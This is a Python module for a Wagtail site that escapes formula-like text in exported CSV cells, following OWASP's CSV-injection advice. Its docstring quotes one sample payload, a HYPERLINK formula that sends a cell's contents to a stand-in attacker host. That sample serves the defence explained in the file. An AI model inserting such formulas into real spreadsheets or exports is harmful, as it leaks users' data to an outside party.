"""Cells the hub writes into CSV files that people open in a spreadsheet program.

A text cell that starts with ``=``, ``+``, ``-`` or ``@`` is a formula to Excel, LibreOffice
and Google Sheets (``=HYPERLINK("https://evil.example/?"&A2)``), and one that starts with a
tab or a carriage return can hide such a start. Every CSV the hub writes passes its cells
through ``neutralise_formula``, which prefixes such text with a single quote, as OWASP
advises (https://owasp.org/www-community/attacks/CSV_Injection): the program shows the
text, and the quote tells the reader it was escaped.

Only text is escaped. Numbers, dates and booleans are written as the values they are, so a
negative amount stays a number a spreadsheet can add up: ``Decimal("-12.50")`` is written
as ``-12.50``, the text ``"-12.50"`` as ``'-12.50``.

Wagtail's listing exports leave CSV cells as they are (Wagtail holds that the program
opening the file is responsible); ``FormulaSafeExportMixin`` is their index views' side of
this. Their XLSX exports are safe as they are: Wagtail writes text, including text that
looks like a formula, as a text cell, which Excel never evaluates.
"""

from __future__ import annotations

from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_formula(value: Any) -> Any:
    """The value, with a single quote in front if it is text a spreadsheet would evaluate."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class FormulaSafeExportMixin:
    """For a Wagtail index view with ``list_export``: its CSV cells and headings go through
    ``neutralise_formula``. Put it before the view class in the bases."""

    def write_csv_row(self, writer, row_dict):
        csv_format = self.FORMAT_CSV
        return writer.writerow(
            {
                field: neutralise_formula(self.preprocess_field_value(field, value, csv_format))
                for field, value in row_dict.items()
            }
        )

    def get_heading(self, queryset, field):
        return neutralise_formula(super().get_heading(queryset, field))
